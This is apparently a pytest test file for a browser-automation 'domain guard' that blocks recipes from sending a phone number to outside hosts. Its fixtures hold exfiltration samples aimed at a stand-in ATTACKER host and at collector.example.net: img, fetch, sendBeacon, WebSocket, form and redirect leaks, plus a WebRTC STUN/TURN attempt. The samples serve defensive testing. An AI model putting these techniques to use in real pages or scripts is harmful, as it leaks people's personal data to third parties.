"""The domain guard: a recipe can never send the number to a host outside its domains."""

from __future__ import annotations

import http.server
import socket
import threading
from collections.abc import Iterator
from pathlib import Path

import pytest
from platforms import make_platform, run

from unbinder.contrib.pytest_plugin import BrowserThread


class _Attacker(http.server.BaseHTTPRequestHandler):
    hits: list[str] = []

    def do_GET(self) -> None:
        self.hits.append(self.path)
        self.send_response(200)
        self.end_headers()

    do_POST = do_GET

    def log_message(self, *args: object) -> None:
        pass


@pytest.fixture
def attacker() -> Iterator[tuple[str, list[str]]]:
    """A real server on this machine that a malicious recipe tries to reach."""
    hits: list[str] = []
    handler = type("Handler", (_Attacker,), {"hits": hits})
    server = http.server.HTTPServer(("127.0.0.1", 0), handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield f"127.0.0.1:{server.server_address[1]}", hits
    server.shutdown()
    server.server_close()


EXFIL_REPLICA = """\
region: CN
routes:
  - url: https://www.{id}.test/
    page: index.html
  - url: https://www.{id}.test/go
    action: redirect
    target: http://ATTACKER/redirect?n=13800138000
scenarios:
  default:
    accounts: []
"""

EXFIL_FLOW = """\
selectors:
  form_button: [{role: button, name: 提交}]
flows:
  check:
    detect_timeout: 2
    steps:
      - goto: https://www.tp.test/
      - click: form_button
        optional: true
      - goto: https://www.tp.test/go
        optional: true
      - goto: "http://ATTACKER/goto?n={phone.national_digits}"
        optional: true
    detect:
      - when: {text: 永远不会出现}
        outcome: bound
        evidence: never
"""

EXFIL_PAGE = """\
<!doctype html><meta charset="utf-8"><body>
<img src="http://ATTACKER/img?n=13800138000">
<script>
fetch('http://ATTACKER/fetch?n=13800138000').catch(() => {});
navigator.sendBeacon('http://ATTACKER/beacon?n=13800138000', 'x');
try { new WebSocket('ws://ATTACKER/ws?n=13800138000'); } catch (e) {}
</script>
<form method="post" action="http://ATTACKER/form"><input name="n" value="13800138000">
<button>提交</button></form>
</body>
"""


def test_every_way_out_is_blocked_and_recorded(
    tmp_path: Path, unbinder_browser: BrowserThread, attacker: tuple[str, list[str]]
) -> None:
    address, hits = attacker
    platform = make_platform(
        tmp_path,
        EXFIL_FLOW.replace("ATTACKER", address),
        {"index.html": EXFIL_PAGE.replace("ATTACKER", address)},
        replica=EXFIL_REPLICA.replace("ATTACKER", address),
        refused_at_load=True,  # its goto to the outside host is refused at load; the guard too
    )
    outcome, _ = run(unbinder_browser, platform)
    assert hits == []  # nothing reached the outside server
    assert outcome.status == "unknown"
    blocked = outcome.blocked
    assert {b.host for b in blocked} == {"127.0.0.1"}
    paths = {(b.url or "").split("127.0.0.1:")[-1].split("/", 1)[-1] for b in blocked}
    assert {"img?…", "fetch?…", "form", "redirect?…", "goto?…"} <= paths, paths
    assert {b.via for b in blocked} >= {"route", "proxy", "websocket"}
    assert all("13800138000" not in (b.url or "") for b in blocked)


OUTSIDE_GOTO_FLOW = """\
flows:
  check:
    detect_timeout: 2
    steps:
      - goto: "https://collector.example.net/?n={phone.e164}"
    detect:
      - when: {text: x}
        outcome: bound
        evidence: never
"""


def test_goto_outside_the_domains_ends_with_the_request_blocked(
    tmp_path: Path, unbinder_browser: BrowserThread
) -> None:
    # Load refuses a goto outside the domains; the guard behind it must stop it all the same.
    platform = make_platform(
        tmp_path, OUTSIDE_GOTO_FLOW, {"index.html": "<p>x</p>"}, refused_at_load=True
    )
    outcome, _ = run(unbinder_browser, platform)
    assert outcome.status == "error"
    assert outcome.failure is not None
    assert "blocked by the domain guard" in outcome.failure.error
    assert [b.host for b in outcome.blocked] == ["collector.example.net"]
    assert outcome.blocked[0].url == "https://collector.example.net/?…"


WEBRTC_PAGE = """\
<!doctype html><meta charset="utf-8"><body><p>rtc</p>
<script>
const pc = new RTCPeerConnection({iceServers: [
  {urls: 'stun:127.0.0.1:PORT'},
  {urls: 'turn:127.0.0.1:PORT?transport=udp', username: '13800138000', credential: 'x'}]});
pc.createDataChannel('leak');
pc.onicecandidate = (e) => { if (e.candidate) document.title += 'c'; };
pc.createOffer().then((offer) => pc.setLocalDescription(offer));
setTimeout(() => document.body.insertAdjacentHTML('beforeend', '<p>done</p>'), 1500);
</script></body>
"""

WEBRTC_FLOW = """\
flows:
  check:
    detect_timeout: 5
    steps:
      - goto: https://www.tp.test/
    detect:
      - when: {text: done}
        outcome: unknown
        evidence: the page had its chance
"""


def test_webrtc_cannot_reach_a_host_over_udp(
    tmp_path: Path, unbinder_browser: BrowserThread
) -> None:
    """STUN/TURN over UDP would bypass the guard's proxy (and name any host): it must not leave."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as udp:
        udp.bind(("127.0.0.1", 0))
        udp.setblocking(False)
        port = udp.getsockname()[1]
        page = WEBRTC_PAGE.replace("PORT", str(port))
        platform = make_platform(tmp_path, WEBRTC_FLOW, {"index.html": page})
        outcome, _ = run(unbinder_browser, platform)
        assert outcome.status == "unknown", outcome.summary()
        packets = []
        while True:
            try:
                packets.append(udp.recv(4096))
            except BlockingIOError:
                break
    assert packets == []
